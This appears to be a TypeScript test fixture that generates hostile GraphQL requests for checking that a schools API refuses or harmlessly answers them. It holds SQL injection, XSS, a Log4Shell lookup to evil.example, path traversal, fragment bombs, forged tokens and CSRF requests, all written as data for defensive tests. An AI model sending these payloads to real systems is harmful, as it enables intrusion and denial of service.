// Requests an attacker would send. Each names what a well-behaved server does with it: refuse it with a clear
// error (a code and a short message), or answer it harmlessly (an injection-looking search that finds nothing).
import {
  buildSchema,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputField,
  type GraphQLInputType,
  getNamedType,
  getNullableType,
  isInputObjectType,
  isListType,
} from 'graphql';
import { typeDefs } from '../../functions/graphql/generated/type-defs.js';

export interface HostileRequest {
  name: string;
  /** Raw HTTP: the body is sent as is. */
  body: string;
  method?: 'GET' | 'POST';
  headers?: Record<string, string>;
  /** Sign in as an admin (the most powerful caller), or send no token. */
  asAdmin: boolean;
  expect: 'refused' | 'harmless';
}

const json = (query: string, variables?: Record<string, unknown>) => JSON.stringify({ query, variables });
const refused = (name: string, query: string, variables?: Record<string, unknown>, asAdmin = true): HostileRequest => ({
  name,
  body: json(query, variables),
  asAdmin,
  expect: 'refused',
});

const INJECTIONS = [
  "' OR '1'='1",
  '"; DROP TABLE schools; --',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell payload, sent as a literal string.
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  'SCHOOL#140412',
];

function nested(depth: number): string {
  let selection = 'name';
  for (let level = 0; level < depth; level += 1) {
    selection =
      level % 2 === 0
        ? `localAuthority { schools { edges { node { ${selection} } } } }`
        : `trust { schools { edges { node { ${selection} } } } }`;
  }
  return `{ school(urn: "140412") { ${selection} } }`;
}

function shapes(): HostileRequest[] {
  const requests: HostileRequest[] = [];
  for (const depth of [4, 5, 6, 8, 12, 20, 40]) requests.push(refused(`nesting ${depth} lists deep`, nested(depth)));
  for (const count of [21, 50, 200, 1000, 5000]) {
    requests.push(
      refused(
        `${count} aliases of schoolsCsv`,
        `{ localAuthority(code: "886") { ${Array.from({ length: count }, (_, i) => `a${i}: schoolsCsv`).join(' ')} } }`,
      ),
    );
    requests.push(
      refused(`${count} aliases of ok`, `{ ${Array.from({ length: count }, (_, i) => `a${i}: ok`).join(' ')} }`),
    );
  }
  for (const count of [25, 100, 500]) {
    requests.push(
      refused(`${count} directives`, `{ ok ${Array.from({ length: count }, () => '@include(if: true)').join(' ')} }`),
    );
  }
  for (const count of [3500, 20_000])
    requests.push(refused(`${count} tokens`, `{ ${Array.from({ length: count / 2 }, () => 'ok').join(' ')} }`));
  // Fragments: a cycle (invalid), a bomb (each spreads the next twice: 2^20 leaves), and a flood of spreads.
  requests.push(
    refused('a fragment cycle', 'query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }'),
  );
  const bomb = Array.from(
    { length: 20 },
    (_, i) => `fragment F${i} on Query { ...F${i + 1} a${i}: ...F${i + 1} }`,
  ).join(' ');
  requests.push(refused('a fragment bomb', `query { ...F0 } ${bomb} fragment F20 on Query { ok }`));
  const schoolBomb = Array.from(
    { length: 16 },
    (_, i) => `fragment S${i} on School { localAuthority { schools(first: 100) { edges { node { ...S${i + 1} } } } } }`,
  ).join(' ');
  requests.push(
    refused(
      'a nested fragment bomb',
      `{ school(urn: "140412") { ...S0 } } ${schoolBomb} fragment S16 on School { name }`,
    ),
  );
  requests.push(
    refused(
      'a flood of fragment spreads',
      `query { ${Array.from({ length: 2000 }, () => '...F').join(' ')} } fragment F on Query { ok }`,
    ),
  );
  // Lists: page sizes out of range, from literals and from variables, and lists without `first` multiplied up.
  for (const first of [101, 1000, 1_000_000, -1, 2_147_483_647]) {
    requests.push(refused(`schools(first: ${first})`, `{ schools(first: ${first}) { totalCount } }`));
    requests.push(
      refused(
        `schools(first: $first = ${first})`,
        'query ($first: Int) { schools(first: $first) { edges { node { name } } } }',
        { first },
      ),
    );
  }
  const everything =
    'name awards { elements { element finding } reviews { summary } } inspections { id } partnerships { since } ' +
    'contacts { email }';
  requests.push(
    refused('100 schools with every list inside', `{ schools(first: 100) { edges { node { ${everything} } } } }`),
  );
  requests.push(
    refused(
      'a variable page of 100 with every list inside',
      `query ($n: Int) { schools(first: $n) { edges { node { ${everything} } } } }`,
      { n: 100 },
    ),
  );
  requests.push(
    refused(
      'fifty schools compared with their pages',
      `{ compareSchools(urns: [${Array.from({ length: 50 }, (_, i) => `"${100000 + i}"`).join(',')}]) { rows { ` +
        `school { localAuthority { schools(first: 100) { edges { node { name } } } } } } } }`,
    ),
  );
  // Variables: wrong types, missing, huge, unknown operation, and an introspection of every type's fields.
  requests.push(
    refused('first as text', 'query ($first: Int) { schools(first: $first) { totalCount } }', { first: 'ten' }),
  );
  requests.push(refused('a missing required variable', 'query ($urn: ID!) { school(urn: $urn) { name } }', {}));
  requests.push(refused('a null required variable', 'query ($urn: ID!) { school(urn: $urn) { name } }', { urn: null }));
  requests.push(
    refused('an object for a scalar', 'query ($urn: ID!) { school(urn: $urn) { name } }', { urn: { $ne: null } }),
  );
  requests.push(refused('an unknown enum', '{ schools(sort: RANDOM) { totalCount } }'));
  requests.push(refused('an unknown field', '{ school(urn: "140412") { password } }'));
  requests.push({
    name: 'an operationName that is not in the document',
    body: JSON.stringify({ query: 'query A { ok }', operationName: 'B' }),
    asAdmin: true,
    expect: 'refused',
  });
  requests.push(refused('a syntax error', '{ school(urn: "140412" { name } }'));
  requests.push(refused('an empty query', ''));
  requests.push(refused('a date that is not a date', '{ schools(filter: { dueBefore: "tomorrow" }) { totalCount } }'));
  requests.push(
    refused(
      'a mutation by GET',
      'mutation { upsertTrust(input: { uid: "1", name: "X", type: SINGLE_ACADEMY_TRUST }) { uid } }',
    ),
  );
  requests[requests.length - 1]!.method = 'GET';
  return requests;
}

function transport(): HostileRequest[] {
  const big = (bytes: number) => json(`{ schools(filter: { nameContains: "${'x'.repeat(bytes)}" }) { totalCount } }`);
  return [
    { name: 'a 70 KB body', body: big(70 * 1024), asAdmin: false, expect: 'refused' },
    { name: 'a 1 MB body', body: big(1024 * 1024), asAdmin: false, expect: 'refused' },
    { name: 'a 5 MB body', body: big(5 * 1024 * 1024), asAdmin: true, expect: 'refused' },
    { name: 'a 60 KB nameContains', body: big(60 * 1024), asAdmin: true, expect: 'refused' },
    {
      name: 'a 60 KB phase',
      body: json('query ($p: String) { schools(filter: { phase: $p }) { totalCount } }', { p: 'y'.repeat(60 * 1024) }),
      asAdmin: true,
      expect: 'refused',
    },
    { name: 'not JSON', body: '{"query": "{ ok }"', asAdmin: false, expect: 'refused' },
    {
      name: 'a JSON array (batch)',
      body: JSON.stringify([{ query: '{ ok }' }, { query: '{ ok }' }]),
      asAdmin: true,
      expect: 'refused',
    },
    { name: 'a JSON string', body: '"{ ok }"', asAdmin: false, expect: 'refused' },
    { name: 'query as a number', body: '{"query": 42}', asAdmin: false, expect: 'refused' },
    { name: 'variables as a string', body: '{"query": "{ ok }", "variables": "x"}', asAdmin: false, expect: 'refused' },
    {
      name: 'text/plain (CSRF)',
      body: json('{ ok }'),
      headers: { 'content-type': 'text/plain' },
      asAdmin: false,
      expect: 'refused',
    },
    {
      name: 'a tampered token',
      body: json('{ ok }'),
      headers: { authorization: 'Bearer eyJhbGciOiJFUzI1NiJ9.eyJjdXN0b206cm9sZSI6ImFkbWluIn0.AAAA' },
      asAdmin: false,
      expect: 'refused',
    },
    {
      name: 'a Basic credential',
      body: json('{ ok }'),
      headers: { authorization: 'Basic YWRtaW46YWRtaW4=' },
      asAdmin: false,
      expect: 'refused',
    },
    {
      name: 'an oversized token',
      body: json('{ ok }'),
      headers: { authorization: `Bearer ${'a'.repeat(9000)}` },
      asAdmin: false,
      expect: 'refused',
    },
  ];
}

function forgedCursors(): HostileRequest[] {
  const cursors = [
    'not-a-cursor',
    Buffer.from('k:zz>?').toString('base64'),
    Buffer.from('h:HISTORY#x').toString('base64url'),
    Buffer.from('h:SCHOOL#999999').toString('base64url'),
    Buffer.from('r:REMINDER#x').toString('base64url'),
    'a'.repeat(199),
  ];
  const lists = [
    '{ schools(after: $c) { totalCount } }',
    '{ localAuthority(code: "340") { schools(after: $c) { totalCount } } }',
    '{ trust(uid: "2864") { schools(after: $c) { totalCount } } }',
    '{ partnerAgency(id: "knowsley-send") { schools(after: $c) { totalCount } } }',
    '{ school(urn: "140412") { history(after: $c) { edges { cursor } } } }',
    '{ reminders(filter: { laCode: "340" }, after: $c) { edges { cursor } } }',
  ];
  return lists.flatMap((list) =>
    cursors.map((cursor, index) =>
      refused(`forged cursor ${index} on ${list.slice(2, 30)}`, `query ($c: String) ${list}`, { c: cursor }),
    ),
  );
}

/** Where a type's fields can be reached from, for arguments below the root. */
const entries: Record<string, (selection: string) => string> = {
  Query: (selection) => selection,
  Mutation: (selection) => selection,
  School: (selection) => `school(urn: "140412") { ${selection} }`,
  LocalAuthority: (selection) => `localAuthority(code: "340") { ${selection} }`,
  Trust: (selection) => `trust(uid: "2864") { ${selection} }`,
  PartnerAgency: (selection) => `partnerAgency(id: "knowsley-send") { ${selection} }`,
};

interface StringInput {
  path: string;
  max: number;
  /** Builds the argument's value with this string at the path. */
  value: (text: string) => unknown;
  isId: boolean;
}

const maxOf = (input: GraphQLArgument | GraphQLInputField) => {
  const directive = input.astNode?.directives?.find((candidate) => candidate.name.value === 'length');
  const max = directive?.arguments?.[0]?.value;
  return max?.kind === 'IntValue' ? Number(max.value) : undefined;
};

function stringInputs(
  name: string,
  type: GraphQLInputType,
  max: number | undefined,
  wrap: (inner: unknown) => unknown,
): StringInput[] {
  const nullable = getNullableType(type);
  if (isListType(nullable)) return stringInputs(`${name}[0]`, nullable.ofType, max, (inner) => wrap([inner]));
  if (isInputObjectType(nullable)) {
    return Object.values(nullable.getFields()).flatMap((field) =>
      stringInputs(`${name}.${field.name}`, field.type, maxOf(field), (inner) => wrap({ [field.name]: inner })),
    );
  }
  const named = getNamedType(type).name;
  return (named === 'String' || named === 'ID') && max !== undefined
    ? [{ path: name, max, value: wrap, isId: named === 'ID' }]
    : [];
}

/** Every string input of the schema: one overlong value each, and injection-looking values within the limit. */
function everyStringInput(): HostileRequest[] {
  const schema = buildSchema(typeDefs);
  const requests: HostileRequest[] = [];
  for (const [typeName, entry] of Object.entries(entries)) {
    const type = schema.getType(typeName);
    if (!type || !('getFields' in type)) continue;
    for (const field of Object.values(type.getFields()) as GraphQLField<unknown, unknown>[]) {
      for (const argument of field.args) {
        const isMutation = typeName === 'Mutation';
        const returned = getNamedType(field.type).name;
        const selection = returned.endsWith('Connection')
          ? ' { totalCount }'
          : returned === 'SearchResults'
            ? ' { schools { totalCount } }'
            : ['String', 'Boolean', 'Int'].includes(returned)
              ? ''
              : ' { __typename }';
        const call = `${field.name}(${argument.name}: $v)${selection}`;
        const query = `${isMutation ? 'mutation' : 'query'} ($v: ${argument.type.toString()}) { ${entry(call)} }`;
        for (const input of stringInputs(argument.name, argument.type, maxOf(argument), (inner) => inner)) {
          requests.push(
            refused(`${typeName}.${field.name} ${input.path} over ${input.max} characters`, query, {
              v: input.value('z'.repeat(input.max + 1)),
            }),
          );
          // Free-text searches legitimately find nothing; every other string is an identifier, a cursor or part of a
          // write.
          // All of England is filtered by name only (other filters need a council or trust): refused there.
          const nationalOnly =
            typeName === 'Query' &&
            ['schools', 'schoolsCsv'].includes(field.name) &&
            input.path !== 'filter.nameContains';
          const harmless =
            !nationalOnly &&
            ['filter.nameContains', 'filter.type', 'filter.phase', 'search', 'text'].includes(input.path);
          for (const payload of INJECTIONS.slice(0, harmless ? 6 : 3)) {
            if (payload.length > input.max) continue;
            requests.push({
              ...refused(`${typeName}.${field.name} ${input.path} = ${payload}`, query, { v: input.value(payload) }),
              expect: harmless ? 'harmless' : 'refused',
            });
          }
        }
      }
    }
  }
  return requests;
}

export function hostileCorpus(): HostileRequest[] {
  return [...shapes(), ...transport(), ...forgedCursors(), ...everyStringInput()];
}
